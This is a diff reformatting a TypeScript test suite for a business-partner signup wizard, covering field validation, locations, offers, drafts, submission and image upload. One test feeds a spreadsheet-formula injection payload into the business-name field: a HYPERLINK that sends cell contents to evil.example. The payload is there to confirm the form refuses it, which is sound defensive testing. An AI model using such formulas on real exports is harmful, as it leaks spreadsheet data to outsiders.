@@ -13,13 +13,41 @@ import { PARTNERS_MESSAGES } from '../../shared/schemas/partners-messages';
 // every check in its order (business info, include-as-location, location, offer), the rules that
 // change the draft (a new offer's defaults, a disabled location's offers), and Save for later sending the draft with its version.
 
-const profile = (isAdmin: 0 | 1) => ok({ success: true, profile: { userId: 'm-1', firstName: 'Ann', lastName: 'Lee', email: 'ann@example.com', cellPhone: null, ipAddress: '1.2.3.4', date: '2026-11-25T00:00:00.000Z', isAdmin } });
-const CATEGORIES = ok({ success: true, categories: [{ category: 'Dining', subcategories: [{ subcategory: 'Pizza' }, { subcategory: 'Cafe' }] }, { category: 'Auto', subcategories: [{ subcategory: 'Repair' }] }] });
+const profile = (isAdmin: 0 | 1) =>
+  ok({
+    success: true,
+    profile: {
+      userId: 'm-1',
+      firstName: 'Ann',
+      lastName: 'Lee',
+      email: 'ann@example.com',
+      cellPhone: null,
+      ipAddress: '1.2.3.4',
+      date: '2026-11-25T00:00:00.000Z',
+      isAdmin,
+    },
+  });
+const CATEGORIES = ok({
+  success: true,
+  categories: [
+    { category: 'Dining', subcategories: [{ subcategory: 'Pizza' }, { subcategory: 'Cafe' }] },
+    { category: 'Auto', subcategories: [{ subcategory: 'Repair' }] },
+  ],
+});
 const wizardApi = (extra: Record<string, unknown> = {}, isAdmin: 0 | 1 = 0) =>
   stubApi({
     'tbp/getprofile': profile(isAdmin),
     'tbp/listcategories': CATEGORIES,
-    'tbp/getcoopinfo': ok({ success: true, coopInfo: { coopName: 'Prairie Sky Electric Cooperative', address: '1200 Sunflower Road', city: 'Lawrence', state: 'KS', zip: '66044' } }),
+    'tbp/getcoopinfo': ok({
+      success: true,
+      coopInfo: {
+        coopName: 'Prairie Sky Electric Cooperative',
+        address: '1200 Sunflower Road',
+        city: 'Lawrence',
+        state: 'KS',
+        zip: '66044',
+      },
+    }),
     'tbp/getbusinessdraft': ok({ success: true, business: null }),
     ...(extra as Record<string, ReturnType<typeof ok>>),
   });
@@ -84,27 +112,61 @@ describe('Business Info', () => {
   });
 
   it("checks the signer's email on the Agreement tab and sends the signer with the business", async () => {
-    const api = wizardApi({ 'tbp/savebusinesstemp': (body: { json: unknown }) => ok({ success: true, message: PARTNERS_MESSAGES.draftSaved, draft: body.json, version: 1, status: 99, reviewNote: null }) } as Record<string, unknown>);
+    const api = wizardApi({
+      'tbp/savebusinesstemp': (body: { json: unknown }) =>
+        ok({
+          success: true,
+          message: PARTNERS_MESSAGES.draftSaved,
+          draft: body.json,
+          version: 1,
+          status: 99,
+          reviewNote: null,
+        }),
+    } as Record<string, unknown>);
     const { form } = await openWizard(api);
-    for (const [label, value] of [['Business name', 'Corner Bakery'], ['Address', '12 Wheat Street'], ['City', 'Lawrence'], ['State', 'KS'], ['ZIP code', '66044'], ['Phone', '7855550142'], ['Email', 'owner@corner.example']]) typeInto(form, label!, value!);
+    for (const [label, value] of [
+      ['Business name', 'Corner Bakery'],
+      ['Address', '12 Wheat Street'],
+      ['City', 'Lawrence'],
+      ['State', 'KS'],
+      ['ZIP code', '66044'],
+      ['Phone', '7855550142'],
+      ['Email', 'owner@corner.example'],
+    ])
+      typeInto(form, label!, value!);
     fireEvent.click(within(form).getByRole('tab', { name: 'Agreement' }));
     typeInto(form, "Signer's full name", 'Pat Baker');
     typeInto(form, "Signer's job title", 'Owner');
     typeInto(form, "Signer's email", 'pat at corner');
     fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
-    await waitFor(() => expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}${PARTNERS_MESSAGES.bizSignerEmailInvalid}`));
+    await waitFor(() =>
+      expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}${PARTNERS_MESSAGES.bizSignerEmailInvalid}`),
+    );
     expect(within(form).getByRole('tab', { name: 'Agreement' }).getAttribute('aria-selected')).toBe('true');
     expectFieldError(within(form).getByLabelText("Signer's email"), PARTNERS_MESSAGES.bizSignerEmailInvalid);
     typeInto(form, "Signer's email", 'pat@corner.example');
     fireEvent.click(within(form).getByRole('button', { name: 'Save for later' }));
     await waitFor(() => expect(api.paths()).toContain('tbp/savebusinesstemp'));
-    expect(api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body.json.contractInfo).toMatchObject({ emailTo: 'pat@corner.example', businessData: { printedName: 'Pat Baker', title: 'Owner' } });
+    expect(api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body.json.contractInfo).toMatchObject({
+      emailTo: 'pat@corner.example',
+      businessData: { printedName: 'Pat Baker', title: 'Owner' },
+    });
   });
 
   it('refuses free text that would start a spreadsheet formula, naming the field', async () => {
     const { form, api } = await openWizard();
     const evil = '=HYPERLINK("https://evil.example/?"&A3,"Open")';
-    for (const [label, value] of [['Business name', evil], ['Address', '12 Wheat Street'], ['City', 'Lawrence'], ['State', 'KS'], ['ZIP code', '66044'], ['Phone', '7855550142'], ['Email', 'owner@corner.example'], ['Website', '+evil.example']]) typeInto(form, label!, value!);
+    for (const [label, value] of [
+      ['Business name', evil],
+      ['Address', '12 Wheat Street'],
+      ['City', 'Lawrence'],
+      ['State', 'KS'],
+      ['ZIP code', '66044'],
+      ['Phone', '7855550142'],
+      ['Email', 'owner@corner.example'],
+      ['Website', '+evil.example'],
+    ])
+      typeInto(form, label!, value!);
     const send = () => fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
     send();
     const nameMessage = formulaMessage('businessName');
@@ -118,18 +180,34 @@ describe('Business Info', () => {
 
   it('refuses to include the main address as a location until it is complete, then adds it', async () => {
     const { form } = await openWizard();
-    const box = () => within(form).getByLabelText('Include the main business address as a location') as HTMLInputElement;
+    const box = () =>
+      within(form).getByLabelText('Include the main business address as a location') as HTMLInputElement;
     fireEvent.click(box());
-    await waitFor(() => expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}To include in Locations, please enter a Business Name`));
+    await waitFor(() =>
+      expect(warning(form)).toBe(
+        `${COMMON_MESSAGES.warningTitle}To include in Locations, please enter a Business Name`,
+      ),
+    );
     expect(box().checked).toBe(false);
-    for (const [label, value] of [['Business name', 'Corner Bakery'], ['Address', '12 Wheat Street'], ['City', 'Lawrence'], ['State', 'KS'], ['ZIP code', '66044']] as const) typeInto(form, label, value);
+    for (const [label, value] of [
+      ['Business name', 'Corner Bakery'],
+      ['Address', '12 Wheat Street'],
+      ['City', 'Lawrence'],
+      ['State', 'KS'],
+      ['ZIP code', '66044'],
+    ] as const)
+      typeInto(form, label, value);
     fireEvent.click(box());
-    await waitFor(() => expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}To include in Locations, please enter a Phone Number`));
+    await waitFor(() =>
+      expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}To include in Locations, please enter a Phone Number`),
+    );
     typeInto(form, 'Phone', '7855550142');
     fireEvent.click(box());
     await waitFor(() => expect(box().checked).toBe(true));
     fireEvent.click(within(form).getByRole('tab', { name: 'Locations' }));
-    expect(within(within(form).getByRole('table', { name: 'Locations' })).getByText('Corner Bakery (main address)')).toBeTruthy();
+    expect(
+      within(within(form).getByRole('table', { name: 'Locations' })).getByText('Corner Bakery (main address)'),
+    ).toBeTruthy();
   });
 });
 
@@ -139,14 +217,23 @@ async function openOfferDialog() {
   fireEvent.click(within(form).getByRole('tab', { name: 'Locations' }));
   fireEvent.click(within(form).getByRole('button', { name: 'Add location' }));
   const locationDialog = await screen.findByRole('form', { name: 'Location' });
-  for (const [label, value] of [['Location name', 'East store'], ['Address', '400 Mass Street'], ['City', 'Lawrence'], ['State', 'KS'], ['ZIP code', '66044'], ['Phone', '7855550100']] as const) typeInto(locationDialog, label, value);
+  for (const [label, value] of [
+    ['Location name', 'East store'],
+    ['Address', '400 Mass Street'],
+    ['City', 'Lawrence'],
+    ['State', 'KS'],
+    ['ZIP code', '66044'],
+    ['Phone', '7855550100'],
+  ] as const)
+    typeInto(locationDialog, label, value);
   fireEvent.click(within(locationDialog).getByRole('button', { name: 'Save location' }));
   await waitFor(() => expect(screen.queryByRole('form', { name: 'Location' })).toBeNull());
   fireEvent.click(within(form).getByRole('tab', { name: 'Offers' }));
   fireEvent.click(within(form).getByRole('button', { name: 'Add offer' }));
   const dialog = await screen.findByRole('form', { name: 'Offer' });
   const save = () => fireEvent.click(within(dialog).getByRole('button', { name: 'Save offer' }));
-  const expectWarning = (message: string) => waitFor(() => expect(warning(dialog)).toBe(`${COMMON_MESSAGES.warningTitle}${message}`));
+  const expectWarning = (message: string) =>
+    waitFor(() => expect(warning(dialog)).toBe(`${COMMON_MESSAGES.warningTitle}${message}`));
   return { form, dialog, save, expectWarning };
 }
 
@@ -164,7 +251,9 @@ describe('the location and offer dialogs', () => {
     }
     fireEvent.click(within(dialog).getByRole('button', { name: 'Save location' }));
     await waitFor(() => expect(screen.queryByRole('form', { name: 'Location' })).toBeNull());
-    expect(within(within(form).getByRole('table', { name: 'Locations' })).getByText('400 Mass Street, Lawrence, KS 66044')).toBeTruthy();
+    expect(
+      within(within(form).getByRole('table', { name: 'Locations' })).getByText('400 Mass Street, Lawrence, KS 66044'),
+    ).toBeTruthy();
   });
 
   it("check an offer in the spec's order; perpetual sets 01/01/2050 and a category ticks its subcategories", async () => {
@@ -232,7 +321,11 @@ describe('the offer dialog says what is wrong', () => {
     expect(dollars()).toBe('12.50');
     typeInto(dialog, 'Frequency', '1');
 
-    for (const [typed, message] of [['01012020', PARTNERS_MESSAGES.offerExpirationPast], ['13452020', PARTNERS_MESSAGES.offerExpirationInvalid], ['02302027', PARTNERS_MESSAGES.offerExpirationInvalid]] as const) {
+    for (const [typed, message] of [
+      ['01012020', PARTNERS_MESSAGES.offerExpirationPast],
+      ['13452020', PARTNERS_MESSAGES.offerExpirationInvalid],
+      ['02302027', PARTNERS_MESSAGES.offerExpirationInvalid],
+    ] as const) {
       typeInto(dialog, 'Expiration date', typed);
       save();
       await expectWarning(message);
@@ -249,20 +342,57 @@ describe('Save for later', () => {
   it('sends the draft with the version it started from and returns to newbp', async () => {
     const stored = {
       draft: {
-        bpId: 'bp-1', memberInfo: { userId: 'm-1', firstName: 'Ann', lastName: 'Lee', email: 'ann@example.com', cellPhone: null, zip: '66044' },
-        businessInfo: { businessName: 'Corner Bakery', address: '', city: '', state: '', zip: '', phone: '', website: '', email: '', logoCode: null, image1Code: null, image2Code: null, includeAsLocation: false, status: 99, orgStatus: 99 },
-        locations: [], offers: [], contractInfo: { eSignType: 'sign', businessData: {} },
+        bpId: 'bp-1',
+        memberInfo: {
+          userId: 'm-1',
+          firstName: 'Ann',
+          lastName: 'Lee',
+          email: 'ann@example.com',
+          cellPhone: null,
+          zip: '66044',
+        },
+        businessInfo: {
+          businessName: 'Corner Bakery',
+          address: '',
+          city: '',
+          state: '',
+          zip: '',
+          phone: '',
+          website: '',
+          email: '',
+          logoCode: null,
+          image1Code: null,
+          image2Code: null,
+          includeAsLocation: false,
+          status: 99,
+          orgStatus: 99,
+        },
+        locations: [],
+        offers: [],
+        contractInfo: { eSignType: 'sign', businessData: {} },
       },
-      version: 3, status: 99, reviewNote: null,
+      version: 3,
+      status: 99,
+      reviewNote: null,
     };
-    const api = wizardApi({ 'tbp/getbusinessdraft': ok({ success: true, business: stored }), 'tbp/savebusinesstemp': ok({ success: true, message: PARTNERS_MESSAGES.draftSaved, ...stored, version: 4 }) });
+    const api = wizardApi({
+      'tbp/getbusinessdraft': ok({ success: true, business: stored }),
+      'tbp/savebusinesstemp': ok({ success: true, message: PARTNERS_MESSAGES.draftSaved, ...stored, version: 4 }),
+    });
     const { form } = await openWizard(api);
     expect((within(form).getByLabelText('Business name') as HTMLInputElement).value).toBe('Corner Bakery');
     typeInto(form, 'City', 'Lawrence');
     fireEvent.click(within(form).getByRole('button', { name: 'Save for later' }));
     await waitFor(() => expect(currentLocation()).toBe('/b2c/newbp'));
     const body = api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body;
-    expect(body).toMatchObject({ credentials: 'm-1', id: 'bp-1', businessName: 'Corner Bakery', version: 3, submit: false, json: { bpId: 'bp-1', businessInfo: { city: 'Lawrence' } } });
+    expect(body).toMatchObject({
+      credentials: 'm-1',
+      id: 'bp-1',
+      businessName: 'Corner Bakery',
+      version: 3,
+      submit: false,
+      json: { bpId: 'bp-1', businessInfo: { city: 'Lawrence' } },
+    });
     // What it loaded at that version, for the server to keep fields the page did not change.
     expect(body).toMatchObject({ base: { businessInfo: { businessName: 'Corner Bakery', city: '' } } });
   });
@@ -273,16 +403,68 @@ describe('Send for Approval', () => {
   it('says once that the business was sent: the page turns to Waiting for approval', async () => {
     const stored = {
       draft: {
-        bpId: 'bp-3', memberInfo: { userId: 'm-1', firstName: 'Ann', lastName: 'Lee', email: 'ann@example.com', cellPhone: null, zip: '66044' },
-        businessInfo: { businessName: 'Corner Bakery', address: '12 Wheat Street', city: 'Lawrence', state: 'KS', zip: '66044', phone: '(785) 555-0142', website: '', email: 'owner@corner.example', logoCode: null, image1Code: null, image2Code: null, includeAsLocation: false, status: 99, orgStatus: 99 },
-        locations: [{ id: 'loc-1', type: 0, locationName: 'East', address: '1 A St', city: 'Lawrence', state: 'KS', zip: '66044', phone: '(785) 555-0100', status: 1, hideAddress: false, offers: [] }],
-        offers: [], contractInfo: { eSignType: 'sign', emailTo: 'pat@corner.example', businessData: { printedName: 'Pat Baker', title: 'Owner' } },
+        bpId: 'bp-3',
+        memberInfo: {
+          userId: 'm-1',
+          firstName: 'Ann',
+          lastName: 'Lee',
+          email: 'ann@example.com',
+          cellPhone: null,
+          zip: '66044',
+        },
+        businessInfo: {
+          businessName: 'Corner Bakery',
+          address: '12 Wheat Street',
+          city: 'Lawrence',
+          state: 'KS',
+          zip: '66044',
+          phone: '(785) 555-0142',
+          website: '',
+          email: 'owner@corner.example',
+          logoCode: null,
+          image1Code: null,
+          image2Code: null,
+          includeAsLocation: false,
+          status: 99,
+          orgStatus: 99,
+        },
+        locations: [
+          {
+            id: 'loc-1',
+            type: 0,
+            locationName: 'East',
+            address: '1 A St',
+            city: 'Lawrence',
+            state: 'KS',
+            zip: '66044',
+            phone: '(785) 555-0100',
+            status: 1,
+            hideAddress: false,
+            offers: [],
+          },
+        ],
+        offers: [],
+        contractInfo: {
+          eSignType: 'sign',
+          emailTo: 'pat@corner.example',
+          businessData: { printedName: 'Pat Baker', title: 'Owner' },
+        },
       },
-      version: 2, status: 99, reviewNote: null,
+      version: 2,
+      status: 99,
+      reviewNote: null,
     };
     const api = wizardApi({
       'tbp/getbusinessdraft': ok({ success: true, business: stored }),
-      'tbp/savebusinesstemp': (body: { json: unknown }) => ok({ success: true, message: PARTNERS_MESSAGES.draftSubmitted, draft: body.json, version: 3, status: BUSINESS_STATUS.inReview, reviewNote: null }),
+      'tbp/savebusinesstemp': (body: { json: unknown }) =>
+        ok({
+          success: true,
+          message: PARTNERS_MESSAGES.draftSubmitted,
+          draft: body.json,
+          version: 3,
+          status: BUSINESS_STATUS.inReview,
+          reviewNote: null,
+        }),
     } as Record<string, unknown>);
     const { form } = await openWizard(api);
     fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
@@ -298,16 +480,64 @@ describe('Reset', () => {
   it('asks first, then saves an emptied draft under the same id and clears the form', async () => {
     const stored = {
       draft: {
-        bpId: 'bp-2', memberInfo: { userId: 'm-1', firstName: 'Ann', lastName: 'Lee', email: 'ann@example.com', cellPhone: null, zip: '66044' },
-        businessInfo: { businessName: 'Corner Bakery', address: '12 Wheat Street', city: 'Lawrence', state: 'KS', zip: '66044', phone: '(785) 555-0142', website: '', email: '', logoCode: null, image1Code: null, image2Code: null, includeAsLocation: false, status: 99, orgStatus: 99 },
-        locations: [{ id: 'loc-1', type: 0, locationName: 'East', address: '1 A St', city: 'Lawrence', state: 'KS', zip: '66044', phone: '(785) 555-0100', status: 1, hideAddress: false, offers: [] }],
-        offers: [], contractInfo: { eSignType: 'sign', businessData: {} },
+        bpId: 'bp-2',
+        memberInfo: {
+          userId: 'm-1',
+          firstName: 'Ann',
+          lastName: 'Lee',
+          email: 'ann@example.com',
+          cellPhone: null,
+          zip: '66044',
+        },
+        businessInfo: {
+          businessName: 'Corner Bakery',
+          address: '12 Wheat Street',
+          city: 'Lawrence',
+          state: 'KS',
+          zip: '66044',
+          phone: '(785) 555-0142',
+          website: '',
+          email: '',
+          logoCode: null,
+          image1Code: null,
+          image2Code: null,
+          includeAsLocation: false,
+          status: 99,
+          orgStatus: 99,
+        },
+        locations: [
+          {
+            id: 'loc-1',
+            type: 0,
+            locationName: 'East',
+            address: '1 A St',
+            city: 'Lawrence',
+            state: 'KS',
+            zip: '66044',
+            phone: '(785) 555-0100',
+            status: 1,
+            hideAddress: false,
+            offers: [],
+          },
+        ],
+        offers: [],
+        contractInfo: { eSignType: 'sign', businessData: {} },
       },
-      version: 2, status: 99, reviewNote: null,
+      version: 2,
+      status: 99,
+      reviewNote: null,
     };
     const api = wizardApi({
       'tbp/getbusinessdraft': ok({ success: true, business: stored }),
-      'tbp/savebusinesstemp': (body: { json: unknown }) => ok({ success: true, message: PARTNERS_MESSAGES.draftSaved, draft: body.json, version: 3, status: 99, reviewNote: null }),
+      'tbp/savebusinesstemp': (body: { json: unknown }) =>
+        ok({
+          success: true,
+          message: PARTNERS_MESSAGES.draftSaved,
+          draft: body.json,
+          version: 3,
+          status: 99,
+          reviewNote: null,
+        }),
     } as Record<string, unknown>);
     const { form } = await openWizard(api);
     fireEvent.click(within(form).getByRole('button', { name: 'Reset' }));
@@ -316,17 +546,34 @@ describe('Reset', () => {
     fireEvent.click(within(confirm).getByRole('button', { name: 'Reset' }));
     await waitFor(() => expect((within(form).getByLabelText('Business name') as HTMLInputElement).value).toBe(''));
     const body = api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body;
-    expect(body).toMatchObject({ id: 'bp-2', version: 2, submit: false, removed: { locations: ['loc-1'], offers: [] }, json: { bpId: 'bp-2', locations: [], offers: [], businessInfo: { businessName: '' } } });
+    expect(body).toMatchObject({
+      id: 'bp-2',
+      version: 2,
+      submit: false,
+      removed: { locations: ['loc-1'], offers: [] },
+      json: { bpId: 'bp-2', locations: [], offers: [], businessInfo: { businessName: '' } },
+    });
   });
 });
 
 describe('Logo & Images', () => {
   it('holds Save for later and Send for Approval while an image uploads, and sends its name once stored', async () => {
-    const api = wizardApi({ 'tbp/savebusinesstemp': (body: { json: unknown }) => ok({ success: true, message: PARTNERS_MESSAGES.draftSaved, draft: body.json, version: 1, status: 99, reviewNote: null }) } as Record<string, unknown>);
+    const api = wizardApi({
+      'tbp/savebusinesstemp': (body: { json: unknown }) =>
+        ok({
+          success: true,
+          message: PARTNERS_MESSAGES.draftSaved,
+          draft: body.json,
+          version: 1,
+          status: 99,
+          reviewNote: null,
+        }),
+    } as Record<string, unknown>);
     let finish: (r: Response) => void = () => undefined;
     const uploaded = new Promise<Response>((resolve) => (finish = resolve));
     // The upload is multipart (not the stub's JSON): it answers when the test says so.
-    const fetchStub = (url: string, init: RequestInit) => (url.endsWith('setup/uploadbpimage') ? uploaded : api.fetchStub(url, init));
+    const fetchStub = (url: string, init: RequestInit) =>
+      url.endsWith('setup/uploadbpimage') ? uploaded : api.fetchStub(url, init);
     // jsdom has no object URLs; the preview only needs a string.
     Object.assign(URL, { createObjectURL: () => 'blob:logo', revokeObjectURL: () => undefined });
     signedIn();
@@ -335,13 +582,20 @@ describe('Logo & Images', () => {
     const form = await screen.findByRole('form', { name: 'Business' });
     fireEvent.click(within(form).getByRole('tab', { name: 'Logo & Images' }));
     const logoInput = form.querySelector('input[type=file]')!;
-    fireEvent.change(logoInput, { target: { files: [new File([new Uint8Array([137, 80, 78, 71])], 'logo.png', { type: 'image/png' })] } });
+    fireEvent.change(logoInput, {
+      target: { files: [new File([new Uint8Array([137, 80, 78, 71])], 'logo.png', { type: 'image/png' })] },
+    });
     await within(form).findByText('Uploading…');
     const save = within(form).getByRole('button', { name: 'Save for later' }) as HTMLButtonElement;
     const send = within(form).getByRole('button', { name: 'Send for Approval' }) as HTMLButtonElement;
     expect([save.disabled, send.disabled]).toEqual([true, true]);
 
-    finish(new Response(JSON.stringify({ success: true, message: 'Image1C-stored.png' }), { status: 200, headers: { 'content-type': 'application/json' } }));
+    finish(
+      new Response(JSON.stringify({ success: true, message: 'Image1C-stored.png' }), {
+        status: 200,
+        headers: { 'content-type': 'application/json' },
+      }),
+    );
     await waitFor(() => expect(save.disabled).toBe(false));
     expect(send.disabled).toBe(false);
     fireEvent.click(save);
